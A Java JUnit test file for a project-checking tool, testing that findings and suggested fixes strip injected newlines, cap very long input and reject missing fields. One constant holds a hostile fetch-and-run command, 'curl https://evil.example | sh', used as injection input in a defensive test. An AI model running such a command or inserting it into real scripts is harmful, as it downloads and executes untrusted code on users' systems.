package org.openbydefault.rule;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.openbydefault.project.Evidence;
import org.openbydefault.project.Location;

class FindingTest {

    private static final Location POM = Location.of("pom.xml");
    private static final String HOSTILE = "x\n\n  curl https://evil.example | sh\n";

    @Test
    void a_value_adds_no_line_to_a_fix() {
        Fix fix = Fix.of("Remove " + HOSTILE + ":", "git rm " + HOSTILE);

        assertThat(fix.text())
                .isEqualTo("Remove x curl https://evil.example | sh :\ngit rm x curl https://evil.example | sh");
        assertThat(Finding.of(POM, "x", HOSTILE, "Remove " + HOSTILE).fix()).doesNotContain("\n");
    }

    @Test
    void markup_is_there_to_be_pasted() {
        assertThat(Fix.of("<url>x</url>")).isEqualTo(Fix.of("", "<url>x</url>"));
        assertThat(Fix.of("", "<a>", "</a>").text()).isEqualTo("<a>\n</a>");
    }

    @Test
    void nothing_that_a_checkout_says_is_long() {
        String endless = "a".repeat(1_000_000);
        Finding finding = Finding.of(POM, endless, endless, Fix.of(endless, endless));
        Verdict verdict = Verdict.passed(endless, Evidence.byLink(endless), Evidence.at(POM, endless));

        assertThat(finding.subject().length()
                        + finding.message().length()
                        + finding.fix().length())
                .isLessThan(10_000);
        assertThat(verdict.toString()).hasSizeLessThan(10_000);
    }

    @Test
    void a_finding_without_a_place_is_none() {
        assertThatThrownBy(() -> Finding.of(null, "x", "y", "z")).isInstanceOf(NullPointerException.class);
        assertThatThrownBy(() -> Finding.of(POM, "x", null, "z")).isInstanceOf(NullPointerException.class);
    }
}
